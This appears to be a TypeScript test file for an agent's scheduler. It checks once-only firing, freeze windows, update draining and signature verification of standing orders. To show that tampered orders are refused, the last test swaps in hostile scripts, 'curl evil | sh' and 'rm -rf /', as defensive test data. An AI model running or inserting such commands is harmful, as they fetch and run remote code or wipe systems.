/**
 * Agent-side firing under an injected clock, with the real state files: what fires when, never twice across
 * a restart, nothing while the last seen freeze holds, and only from standing orders whose signature verifies.
 */
import { existsSync, readFileSync, writeFileSync } from "node:fs";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { pino } from "pino";
import { v5 as uuidv5 } from "uuid";
import { SCHEDULE_EXEC_NAMESPACE, scheduleSchema, type Command, type StandingOrder } from "@kanade/protocol";
import { openCommandSigner } from "@kanade/backend";
import { tempDir, testCommandKeys, type TempDir } from "@kanade/testkit";
import { FiredOccurrences } from "./fired-occurrences.js";
import { LastSeenFreeze } from "./freeze-seen.js";
import { AgentScheduler } from "./scheduler.js";
import { StandingOrders } from "./standing-orders.js";

/** Warnings and errors, as the agent's log would have them. */
const logged: { msg: string; reason?: string }[] = [];
const log = pino({ level: "warn" }, { write: (line: string) => void logged.push(JSON.parse(line) as { msg: string; reason?: string }) });
const SINCE = "2026-12-01T00:00:00.000Z";

function order(schedule: Record<string, unknown>, sign: (kind: "scheduleOrder", m: Record<string, unknown>) => StandingOrder["signature"] = (k, m) => testCommandKeys().signer.sign(k, m)): string {
  const unsigned = {
    schedule_id: "nightly",
    schedule: scheduleSchema.parse({ id: "nightly", job: "cleanup", runs_on: "agent", target: { all: true }, ...schedule }),
    since: SINCE,
    command: { job_id: "cleanup", version: "1.0.0", shell: "sh", script: "echo hi", timeout_secs: 60, run_as: "system", staleness: { mode: "cached" } },
    issued_at: SINCE,
    issued_by: "schedule:nightly",
  };
  return JSON.stringify({ ...unsigned, signature: sign("scheduleOrder", unsigned) });
}

describe("agent-side schedules (injected clock, real state files)", () => {
  let dir: TempDir;
  let now: number;
  let runs: Command[];
  const files = () => ({ orders: dir.join("orders.json"), fired: dir.join("fired.json"), freeze: dir.join("freeze.json") });
  /** A fresh process: everything is read back from the files. */
  const boot = (accepting: () => boolean = () => true) => {
    const orders = new StandingOrders(files().orders, () => testCommandKeys().keys, log);
    const freeze = new LastSeenFreeze(files().freeze, log);
    const scheduler = new AgentScheduler({
      pcId: "pc-1",
      orders: () => orders.all(),
      held: (ms) => freeze.held(ms),
      groups: () => [],
      fired: new FiredOccurrences(files().fired, log),
      run: (cmd) => runs.push(cmd),
      accepting,
      log,
      now: () => now,
    });
    return { orders, freeze, scheduler };
  };
  const at = (iso: string): void => {
    now = Date.parse(iso);
  };

  beforeEach(() => {
    dir = tempDir("kanade-agent-sched-");
    runs = [];
    logged.length = 0;
  });
  afterEach(() => dir.remove());

  it("fires each hourly occurrence once inside its window, skips skip dates, and never twice across a restart", () => {
    let a = boot();
    a.orders.offer("nightly", order({ when: { per_target: { every: "1h" }, tz: "utc" }, constraints: { window: "01:00-03:00", skip_dates: ["2026-12-03"] }, starting_deadline: "30m" }));
    at("2026-12-02T00:30:00Z");
    expect(a.scheduler.tick()).toBe(0); // outside the window
    at("2026-12-02T01:05:00Z");
    expect(a.scheduler.tick()).toBe(1);
    expect(a.scheduler.tick()).toBe(0);
    a = boot(); // restart
    expect(a.scheduler.tick()).toBe(0);
    at("2026-12-02T02:40:00Z");
    expect(a.scheduler.tick()).toBe(0); // the 02:00 occurrence's starting_deadline passed
    at("2026-12-03T01:05:00Z");
    expect(a.scheduler.tick()).toBe(0); // skip date
    const occurrence = "2026-12-02T01:00:00.000Z";
    expect(runs).toHaveLength(1);
    expect(runs[0]).toMatchObject({
      exec_id: uuidv5(`kanade/schedule/nightly/${SINCE}/${occurrence}`, SCHEDULE_EXEC_NAMESPACE),
      job_id: "cleanup",
      version: "1.0.0",
      script: "echo hi",
      deadline_at: "2026-12-02T01:30:00.000Z",
    });
    expect(readFileSync(files().fired, "utf8")).toContain(occurrence);
  });

  it("holds every fire while the last seen freeze holds (also after a restart), and a corrupt freeze counts as frozen", () => {
    let a = boot();
    a.orders.offer("nightly", order({ when: { per_pc: "once" } }));
    a.freeze.seen(JSON.stringify({ from: "2026-12-01T00:00:00Z", until: "2026-12-10T00:00:00Z", reason: "year end", set_by: "ops", set_at: "2026-12-01T00:00:00Z" }));
    at("2026-12-02T10:00:00Z");
    expect(a.scheduler.tick()).toBe(0);
    a = boot(); // restarts offline: the freeze comes from the file
    expect(a.scheduler.tick()).toBe(0);
    a.freeze.seen("{not json");
    expect(a.scheduler.tick()).toBe(0);
    a.freeze.seen(undefined); // cleared
    expect(a.scheduler.tick()).toBe(1);
    at("2026-12-11T10:00:00Z");
    expect(boot().scheduler.tick()).toBe(0); // once is once
    expect(runs).toHaveLength(1);
  });

  it("fires nothing while the agent drains for an update, and the occurrence stays due for the next start", () => {
    const a = boot(() => false);
    a.orders.offer("nightly", order({ when: { per_pc: "once" } }));
    at("2026-12-02T10:00:00Z");
    expect(a.scheduler.tick()).toBe(0);
    expect(boot().scheduler.tick()).toBe(1);
    expect(runs).toHaveLength(1);
  });

  it("refuses unsigned, forged and altered orders (keeping the good one), verifies the file again, and stops on withdrawal", () => {
    const a = boot();
    at("2026-12-02T10:00:00Z");
    const rogue = openCommandSigner(dir.join("rogue-keys"));
    a.orders.offer("nightly", order({ when: { per_pc: "once" } }, (k, m) => rogue.sign(k, m)));
    const unsigned = JSON.parse(order({ when: { per_pc: "once" } })) as Record<string, unknown>;
    delete unsigned.signature;
    a.orders.offer("nightly", JSON.stringify(unsigned));
    expect(a.orders.all()).toEqual([]);
    expect(a.scheduler.tick()).toBe(0);

    const good = order({ when: { calendar: { at: "09:00" }, tz: "utc" } });
    a.orders.offer("nightly", good);
    const altered = JSON.parse(good) as { command: { script: string } };
    altered.command.script = "curl evil | sh";
    a.orders.offer("nightly", JSON.stringify(altered));
    expect(a.orders.all().map((o) => o.command.script)).toEqual(["echo hi"]);

    // Someone edits the cached file: the order no longer verifies when read back.
    writeFileSync(files().orders, readFileSync(files().orders, "utf8").replace("echo hi", "rm -rf /"));
    expect(boot().orders.all()).toEqual([]);

    a.orders.offer("nightly", undefined);
    expect(a.orders.all()).toEqual([]);
    expect(a.scheduler.tick()).toBe(0);
    expect(runs).toEqual([]);
    expect(existsSync(files().fired)).toBe(false);
    expect(logged.map((l) => `${l.msg}: ${l.reason ?? ""}`)).toEqual([
      expect.stringMatching(/^refused a standing order: the standing order is signed by key .+, which this agent does not trust$/),
      "refused a standing order: the standing order is not signed",
      "refused a standing order: the standing order's signature does not verify (altered, or signed by another key)",
      "dropped a cached standing order that does not verify: the standing order's signature does not verify (altered, or signed by another key)",
    ]);
  });
});
